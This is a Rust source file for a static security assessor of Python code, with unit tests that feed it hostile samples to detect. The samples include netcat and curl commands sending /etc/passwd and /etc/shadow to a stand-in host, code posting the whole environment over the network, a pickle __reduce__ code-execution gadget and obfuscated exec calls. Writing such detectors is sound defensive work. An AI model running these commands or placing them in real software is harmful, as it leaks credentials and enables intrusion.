//! Static security assessment of Python source before it runs.
//!
//! This is triage for the user, not a security boundary: the sandbox is the
//! boundary. The assessor parses the file with Ruff's parser, resolves
//! names through imports, aliases and dynamic lookups, and maps what it sees
//! onto the rule table in [`rules`], then folds the findings into a
//! [`Verdict`].
//!
//! Parser choice: `ruff_python_parser`. It is maintained with Ruff, covers
//! current Python syntax (match, PEP 695 type parameters, `type` aliases,
//! PEP 701 f-strings), recovers from syntax errors (so the rest of a broken
//! file is still assessed) and parses at 0.2-0.35 ms per 1,000 lines here:
//! about 15x tree-sitter-python (4-5 ms per 1,000 lines, which alone broke the
//! 2 ms budget) and 8x rustpython-parser. It is published as an internal,
//! 0.0.x crate, so it is pinned exactly (see Cargo.toml). [`syntax`] lowers
//! its AST into the flat tree the rules walk and guards against hostile
//! nesting.

mod analyze;
pub mod bandit;
mod config;
mod heap;
mod render;
mod rules;
mod syntax;
mod verdict;

#[cfg(test)]
mod behaviour10_tests;
#[cfg(test)]
mod behaviour11_tests;
#[cfg(test)]
mod behaviour12_tests;
#[cfg(test)]
mod behaviour13_tests;
#[cfg(test)]
mod behaviour14_tests;
#[cfg(test)]
mod behaviour15_tests;
#[cfg(test)]
mod behaviour16_tests;
#[cfg(test)]
mod behaviour17_tests;
#[cfg(test)]
mod behaviour18_tests;
#[cfg(test)]
mod behaviour19_tests;
#[cfg(test)]
mod behaviour20_tests;
#[cfg(test)]
mod behaviour21_tests;
#[cfg(test)]
mod behaviour22_tests;
#[cfg(test)]
mod behaviour4_tests;
#[cfg(test)]
mod behaviour5_tests;
#[cfg(test)]
mod behaviour6_tests;
#[cfg(test)]
mod behaviour7_tests;
#[cfg(test)]
mod behaviour8_tests;
#[cfg(test)]
mod behaviour9_tests;
#[cfg(test)]
mod behaviour_tests;
#[cfg(test)]
mod corpus_tests;
#[cfg(test)]
mod family_tests;
#[cfg(test)]
mod metamorphic_tests;
#[cfg(test)]
mod respelling_tests;
#[cfg(test)]
mod robustness_tests;
#[cfg(test)]
mod stdlib_tests;

use std::time::Instant;

use serde::Serialize;

pub use config::{AssessConfig, Thresholds, DEFAULT_MAX_BYTES, DEFAULT_MAX_DEPTH};
pub use render::render_text;
pub use rules::{rule, rules, Rule};
pub use verdict::{ParseVerdictError, Severity, Verdict};

/// One thing the assessor saw, pinned to a place in the file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    /// Rule id, e.g. "MB602" (Bandit's B602 when `bandit` is set).
    pub rule: String,
    /// Severity after config overrides.
    pub severity: Severity,
    pub title: String,
    /// 1-based line.
    pub line: usize,
    /// 1-based column, in bytes.
    pub column: usize,
    /// The source line, trimmed and shortened.
    pub snippet: String,
    /// Why this fired, e.g. which name an alias resolved to.
    pub detail: String,
    pub cwe: Option<String>,
    pub bandit: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Assessment {
    pub path: String,
    pub verdict: Verdict,
    /// Sorted by line, then column, then rule.
    pub findings: Vec<Finding>,
    /// False when the file had syntax errors or could not be parsed at all.
    pub syntax_ok: bool,
    pub bytes: usize,
    pub lines: usize,
    /// The assessor's own time (external tools not included).
    pub elapsed_us: u64,
    /// External analysers whose findings were merged in (`--with bandit`).
    pub tools: Vec<String>,
}

#[derive(Debug, thiserror::Error)]
pub enum AssessError {
    #[error("{path}: file is {size} bytes, over the assessment limit of {limit} bytes (assessment.max_bytes)")]
    TooLarge {
        path: String,
        size: usize,
        limit: usize,
    },
    #[error("{path}: the Python parser could not be set up: {reason}")]
    Parser { path: String, reason: String },
}

/// Assesses one Python source file. `path` is only used for messages.
///
/// Errors only for refusals (too large) and an unusable parser; empty,
/// binary, non-UTF-8, broken or absurdly nested input gives an `Assessment`.
pub fn assess(path: &str, source: &[u8], cfg: &AssessConfig) -> Result<Assessment, AssessError> {
    let start = Instant::now();
    if source.len() > cfg.max_bytes {
        return Err(AssessError::TooLarge {
            path: path.to_string(),
            size: source.len(),
            limit: cfg.max_bytes,
        });
    }
    heap::reserve(source.len());
    let out = analyze::analyze(source, cfg.max_depth).map_err(|reason| AssessError::Parser {
        path: path.to_string(),
        reason,
    })?;

    // Valid UTF-8, the usual case, is checked by the fast validator: the
    // lossy decoder walks every byte through its slow path even when it
    // replaces nothing.
    let text = match std::str::from_utf8(source) {
        Ok(s) => std::borrow::Cow::Borrowed(s),
        Err(_) => String::from_utf8_lossy(source),
    };
    let mut rows = Rows::new(&text);
    // The analyzer only emits ids from the table; a miss would be a bug in
    // this crate, and dropping the finding is safer than panicking in exec.
    let mut raws: Vec<(analyze::RawFinding, &rules::Rule)> = out
        .findings
        .into_iter()
        .filter(|raw| !cfg.is_disabled(raw.rule))
        .filter_map(|raw| rules::rule(raw.rule).map(|rule| (raw, rule)))
        .collect();
    // Sorted and deduplicated by position and rule before the findings are
    // made (the same order: line and column are row and column plus one),
    // so the sort moves small records and no finding is made to be dropped.
    raws.sort_by(|(a, _), (b, _)| (a.row, a.col, a.rule).cmp(&(b.row, b.col, b.rule)));
    raws.dedup_by(|(a, _), (b, _)| a.row == b.row && a.rule == b.rule);
    let findings: Vec<Finding> = raws
        .into_iter()
        .map(|(raw, rule)| Finding {
            rule: rule.id.to_string(),
            severity: cfg.severity_of(rule.id, rule.severity),
            title: rule.title.to_string(),
            line: raw.row + 1,
            column: raw.col + 1,
            snippet: rows
                .get(raw.row)
                .map(|l| shorten(l.trim(), 120))
                .unwrap_or_default(),
            detail: raw.detail,
            cwe: rule.cwe.map(str::to_string),
            bandit: rule.bandit.map(str::to_string),
        })
        .collect();

    let verdict = fold_verdict(&findings, cfg);
    Ok(Assessment {
        path: path.to_string(),
        verdict,
        findings,
        syntax_ok: out.syntax_ok,
        bytes: source.len(),
        lines: line_count(&text),
        elapsed_us: u64::try_from(start.elapsed().as_micros()).unwrap_or(u64::MAX),
        tools: Vec::new(),
    })
}

fn fold_verdict(findings: &[Finding], cfg: &AssessConfig) -> Verdict {
    let max = findings
        .iter()
        .map(|f| f.severity)
        .max()
        .unwrap_or(Verdict::Low);
    // The distinct behaviours of both severities, in one pass over the
    // findings and one sort (a malicious file has hundreds of findings).
    let mut ids: Vec<(bool, &str)> = findings
        .iter()
        .filter(|f| matches!(f.severity, Verdict::Medium | Verdict::High))
        .map(|f| (f.severity == Verdict::High, rules::behaviour(&f.rule)))
        .collect();
    ids.sort_unstable();
    ids.dedup();
    let high = ids.iter().filter(|(high, _)| *high).count();
    cfg.escalate(ids.len() - high, high, max)
}

/// How many lines `text` has, as `str::lines` counts them: one per line
/// break, and one more for a last line without one. Counted with memchr's
/// vectorised count; collecting every line (to read a few snippets) cost
/// about 180 instructions a line.
fn line_count(text: &str) -> usize {
    let breaks = memchr::memchr_iter(b'\n', text.as_bytes()).count();
    breaks + usize::from(!text.is_empty() && !text.ends_with('\n'))
}

/// The lines of `text` by number, as `str::lines` gives them but with a
/// `\r` before the break kept (the snippets are trimmed). The findings ask
/// in ascending order of line, so each line is found from the last one
/// asked, with memchr; an earlier line starts the search again from the
/// top.
struct Rows<'a> {
    text: &'a str,
    /// The line `start` begins.
    row: usize,
    start: usize,
}

impl<'a> Rows<'a> {
    fn new(text: &'a str) -> Self {
        Rows {
            text,
            row: 0,
            start: 0,
        }
    }

    fn get(&mut self, row: usize) -> Option<&'a str> {
        if row < self.row {
            (self.row, self.start) = (0, 0);
        }
        let bytes = self.text.as_bytes();
        while self.row < row {
            let rest = bytes.get(self.start..)?;
            self.start += memchr::memchr(b'\n', rest)? + 1;
            self.row += 1;
        }
        let rest = self.text.get(self.start..)?;
        if rest.is_empty() {
            return None;
        }
        let end = memchr::memchr(b'\n', rest.as_bytes()).unwrap_or(rest.len());
        rest.get(..end)
    }
}

fn shorten(s: &str, max_chars: usize) -> String {
    // No more bytes than `max_chars` is no more characters: most lines are
    // that short, and are not counted.
    if s.len() <= max_chars || s.chars().count() <= max_chars {
        return s.to_string();
    }
    let mut out: String = s.chars().take(max_chars.saturating_sub(1)).collect();
    out.push('…');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rows_count_and_trim_like_str_lines() {
        for t in [
            "",
            "\n",
            "a",
            "a\n",
            "a\nb",
            "a\r\nb\r\n",
            "\n\nx\r",
            " a \r\n\tb",
            "é\nü\n\n",
        ] {
            let std: Vec<&str> = t.lines().map(str::trim).collect();
            assert_eq!(line_count(t), std.len(), "{t:?}");
            let mut rows = Rows::new(t);
            // In order, past the end, then back to the start.
            for (i, want) in std.iter().enumerate() {
                assert_eq!(rows.get(i).map(str::trim), Some(*want), "{t:?} {i}");
            }
            assert_eq!(rows.get(std.len()), None, "{t:?}");
            assert_eq!(rows.get(std.len() + 3), None, "{t:?}");
            assert_eq!(rows.get(0).map(str::trim), std.first().copied(), "{t:?}");
        }
    }

    fn run(src: &str) -> Assessment {
        assess("t.py", src.as_bytes(), &AssessConfig::default()).unwrap()
    }

    fn rules_of(a: &Assessment) -> Vec<&str> {
        a.findings.iter().map(|f| f.rule.as_str()).collect()
    }

    #[test]
    fn empty_file_is_low() {
        let a = run("");
        assert_eq!(a.verdict, Verdict::Low);
        assert!(a.findings.is_empty());
        assert!(a.syntax_ok);
    }

    #[test]
    fn too_large_is_refused_with_limit_in_message() {
        let cfg = AssessConfig {
            max_bytes: 10,
            ..AssessConfig::default()
        };
        let err = assess("big.py", b"print('hello world')", &cfg).unwrap_err();
        let msg = err.to_string();
        assert!(msg.contains("big.py") && msg.contains("10 bytes"), "{msg}");
    }

    #[test]
    fn fifty_megabytes_refused_by_default() {
        let big = vec![b'#'; 50 * 1024 * 1024];
        assert!(matches!(
            assess("x.py", &big, &AssessConfig::default()),
            Err(AssessError::TooLarge { .. })
        ));
    }

    #[test]
    fn alias_import_resolves() {
        let a = run("import os as o\no.system('ls')\n");
        assert!(rules_of(&a).contains(&"MB605"), "{:?}", a.findings);
        let f = a.findings.iter().find(|f| f.rule == "MB605").unwrap();
        assert_eq!((f.line, f.column), (2, 1));
        assert_eq!(f.snippet, "o.system('ls')");
        assert_eq!(f.bandit.as_deref(), Some("B605"));
    }

    #[test]
    fn from_import_alias_with_shell() {
        let a = run("from subprocess import Popen as P\nP('ls', shell=True)\n");
        assert!(rules_of(&a).contains(&"MB602"), "{:?}", a.findings);
    }

    #[test]
    fn getattr_concat_folds_and_flags() {
        let a = run("import os\ngetattr(os, 'sys' + 'tem')('id')\n");
        let r = rules_of(&a);
        assert!(r.contains(&"MB414") && r.contains(&"MB605"), "{r:?}");
        let b = run("import os\nname = input()\ngetattr(os, name)('id')\n");
        assert!(rules_of(&b).contains(&"MB413"));
        assert_eq!(b.verdict, Verdict::High);
    }

    #[test]
    fn dunder_import_and_importlib() {
        let a = run("__import__('os').system('id')\n");
        assert!(rules_of(&a).contains(&"MB605"));
        let b = run("import importlib\nm = importlib.import_module('subpro' + 'cess')\nm.run('ls', shell=True)\n");
        assert!(rules_of(&b).contains(&"MB602"), "{:?}", b.findings);
        let c = run("import importlib, sys\nimportlib.import_module(sys.argv[1])\n");
        assert!(rules_of(&c).contains(&"MB411"));
    }

    #[test]
    fn scope_shadowing_parameter_is_not_os() {
        let a = run("import os\ndef f(os):\n    os.system('x')\n");
        assert!(!rules_of(&a).contains(&"MB605"), "{:?}", a.findings);
        let b = run("def f():\n    import os as q\ndef g():\n    q.system('x')\n");
        assert!(!rules_of(&b).contains(&"MB605"), "{:?}", b.findings);
        let c = run("def g():\n    q.system('x')\nimport os as q\n");
        assert!(rules_of(&c).contains(&"MB605"), "{:?}", c.findings);
    }

    #[test]
    fn exec_literal_vs_dynamic_vs_obfuscated() {
        assert_eq!(run("exec('print(1)')\n").verdict, Verdict::Low);
        // Literal code is assessed too.
        let lit = run("exec(\"import os; os.system('sudo id')\")\n");
        assert_eq!(lit.verdict, Verdict::High, "{:?}", lit.findings);
        assert!(lit
            .findings
            .iter()
            .any(|f| f.rule == "MB204" && f.detail.contains("inside the code")));
        assert_eq!(
            run("import sys\nexec(sys.stdin.read())\n").verdict,
            Verdict::High
        );
        let a = run("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
        assert_eq!(a.verdict, Verdict::Blocked, "{:?}", a.findings);
        let b = run("import codecs\ns = codecs.decode('cevag(1)', 'rot13')\nexec(s)\n");
        assert_eq!(b.verdict, Verdict::Blocked, "{:?}", b.findings);
        for spelled in [
            "exec(chr(105) + chr(100))\n",
            "exec(''.join([chr(105), chr(100)]))\n",
            "exec(''.join(chr(c) for c in [105, 100]))\n",
            "s = 'di'\nexec(s[::-1])\n",
        ] {
            assert_eq!(run(spelled).verdict, Verdict::Blocked, "{spelled}");
        }
        // A lone character and a reversed list are not disguises (IPython's
        // completer, CPython's test_sys): no MB903.
        for plain in [
            "s = chr(0x4000)\ncompile(s, '<stdin>', 'eval')\n",
            "def f(ids, ns):\n    return eval('.'.join(ids[::-1]), ns)\n",
        ] {
            assert!(!rules_of(&run(plain)).contains(&"MB903"), "{plain}");
        }
    }

    #[test]
    fn disabled_and_overridden_rules() {
        let src = "import os\nos.system('ls')\n";
        let mut cfg = AssessConfig::default();
        cfg.severity.insert("MB605".into(), Verdict::Blocked);
        assert_eq!(
            assess("t.py", src.as_bytes(), &cfg).unwrap().verdict,
            Verdict::Blocked
        );
        cfg.disabled.push("MB605".into());
        let a = assess("t.py", src.as_bytes(), &cfg).unwrap();
        assert!(!rules_of(&a).contains(&"MB605"));
    }

    #[test]
    fn dynamic_code_rules_escalate_as_one_behaviour() {
        // A debugger's shape: exec, eval, compile, a computed import and a
        // computed getattr are one behaviour, so HIGH, not BLOCKED.
        let src = "import importlib, os\ndef run(code, name, attr):\n    exec(code)\n    eval(code)\n    compile(code, 'f', 'exec')\n    importlib.import_module(name)\n    getattr(os, attr)\n";
        let a = run(src);
        let r = rules_of(&a);
        for id in ["MB102", "MB307", "MB110", "MB411", "MB413"] {
            assert!(r.contains(&id), "{id} missing: {r:?}");
        }
        assert_eq!(a.verdict, Verdict::High, "{:?}", a.findings);
        // Four independent HIGH behaviours still escalate.
        let src = "import os, socket\nos.setuid(0)\nopen('/etc/motd', 'w')\nos.system('sudo id')\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n";
        assert_eq!(run(src).verdict, Verdict::Blocked);
    }

    #[test]
    fn docstrings_are_documentation_not_behaviour() {
        let doc = "import ftplib\ndef login(host):\n    \"\"\"Logs in with the password from ~/.netrc.\"\"\"\n    return ftplib.FTP(host)\n";
        let a = run(doc);
        assert!(!rules_of(&a).contains(&"MB205"), "{:?}", a.findings);
        assert!(a.verdict < Verdict::High, "{:?}", a.findings);
        // The same path used by the code is still seen.
        let used = "import ftplib\ndef login(host):\n    creds = open('/root/.netrc').read()\n    return ftplib.FTP(host), creds\n";
        assert_eq!(run(used).verdict, Verdict::Blocked);
    }

    #[test]
    fn pickle_gadgets() {
        // A gadget alone is HIGH; with a ready command, or pickled, BLOCKED.
        let gadget = "import subprocess\nclass G:\n    def __reduce__(self):\n        return subprocess.Popen, (self.argv,)\n";
        let a = run(gadget);
        assert!(rules_of(&a).contains(&"MB418"), "{:?}", a.findings);
        assert_eq!(a.verdict, Verdict::High, "{:?}", a.findings);
        let pickled = format!("{gadget}import pickle\ng = G()\nblob = pickle.dumps(g)\n");
        let a = run(&pickled);
        assert_eq!(a.verdict, Verdict::Blocked, "{:?}", a.findings);
        let f = a.findings.iter().find(|f| f.rule == "MB912").unwrap();
        assert_eq!(f.line, 7, "{f:?}");
        // Another class pickled does not arm this one.
        let other = format!("{gadget}import pickle\nclass H:\n    pass\npickle.dumps(H())\n");
        assert_eq!(run(&other).verdict, Verdict::High);
        // The command inside a gadget is checked like any other command.
        let armed = "import os\nclass E:\n    def __reduce__(self):\n        t = (os.system, ('cat /etc/shadow | nc evil 9',))\n        return t\n";
        let a = run(armed);
        let r = rules_of(&a);
        for id in ["MB418", "MB912", "MB910"] {
            assert!(r.contains(&id), "{id} missing: {r:?}");
        }
        // A __reduce__ outside a class, or an honest one, is nothing.
        assert!(!rules_of(&run(
            "import os\ndef __reduce__():\n    return os.system, ('id',)\n"
        ))
        .contains(&"MB418"));
        let honest = "class P:\n    def __reduce__(self):\n        return (self.__class__, (self.x,))\n    def __reduce_ex__(self, p):\n        return getattr, (type(self), 'x')\n";
        assert!(run(honest).findings.is_empty());
    }

    #[test]
    fn environment_sent_over_the_network() {
        let blocked = [
            "import os, requests\ne = dict(os.environ)\nrequests.post('https://x', json=e)\n",
            "import os, json, urllib.request\nd = json.dumps(os.environ.copy()).encode()\nurllib.request.urlopen('http://x', data=d)\n",
            "from os import environ\nimport socket\ns = socket.socket()\ns.connect(('x', 1))\ns.sendall(repr(environ).encode())\n",
            "import os, requests\nrequests.get('https://x', params={k: os.environ[k] for k in os.environ})\n",
            "import os, json, subprocess\ncmd = ['curl', '-d', json.dumps(dict(os.environ)), 'https://x']\nsubprocess.run(cmd)\n",
        ];
        for src in blocked {
            let a = run(src);
            assert!(rules_of(&a).contains(&"MB911"), "{src}: {:?}", a.findings);
            assert_eq!(a.verdict, Verdict::Blocked);
        }
        let many = "import os, requests\nkeys = [os.getenv('A'), os.getenv('B'), os.environ['C'], os.environ.get('D')]\nrequests.post('https://x', json=keys)\n";
        assert!(rules_of(&run(many)).contains(&"MB421"));
        let benign = [
            // One variable for configuration or authentication.
            "import os, requests\nt = os.environ['TOKEN']\nrequests.get('https://x', headers={'A': t, 'R': os.getenv('REGION')})\n",
            // The environment handed to a child process.
            "import os, subprocess\nenv = os.environ.copy()\nsubprocess.run(['curl', '-o', 'f', 'https://x'], env=env)\n",
            // A method named like a send, in a script without network I/O.
            "import os, queue\nq = queue.Queue()\nq.put(dict(os.environ))\n",
            // The same name rebound before the send.
            "import os, requests\ne = dict(os.environ)\ne = {'ok': 1}\nrequests.post('https://x', json=e)\n",
        ];
        for src in benign {
            let a = run(src);
            let r = rules_of(&a);
            assert!(
                !r.contains(&"MB911") && !r.contains(&"MB421"),
                "{src}: {r:?}"
            );
        }
    }

    #[test]
    fn commands_that_send_files_away() {
        let a = run("import os\nos.system('cat /etc/passwd | nc evil 4444')\n");
        assert!(rules_of(&a).contains(&"MB910"));
        assert_eq!(a.verdict, Verdict::Blocked);
        let b =
            run("import subprocess\nsubprocess.run(['curl', '-d', '@/etc/shadow', 'http://x'])\n");
        assert!(rules_of(&b).contains(&"MB910"), "{:?}", b.findings);
        let c = run(
            "import os\nos.system('cat /etc/passwd | wc -l')\nos.system('curl -o x http://x')\n",
        );
        assert!(!rules_of(&c).contains(&"MB910"));
        assert_eq!(c.verdict, Verdict::Medium);
    }

    #[test]
    fn syntax_error_is_a_finding_not_a_crash() {
        let a = run("def f(:\n    import os\nos.system('x')\n");
        assert!(!a.syntax_ok);
        assert!(rules_of(&a).contains(&"MB001"));
    }

    #[test]
    fn python312_syntax_parses_clean() {
        let src = "type Point[T] = tuple[T, T]\ndef first[T](xs: list[T]) -> T:\n    return xs[0]\nmatch first([1]):\n    case 1:\n        print(f\"{'nested' + f'{1}'}\")\n    case _:\n        pass\n";
        let a = run(src);
        assert!(a.syntax_ok, "{:?}", a.findings);
        assert_eq!(a.verdict, Verdict::Low);
    }
}
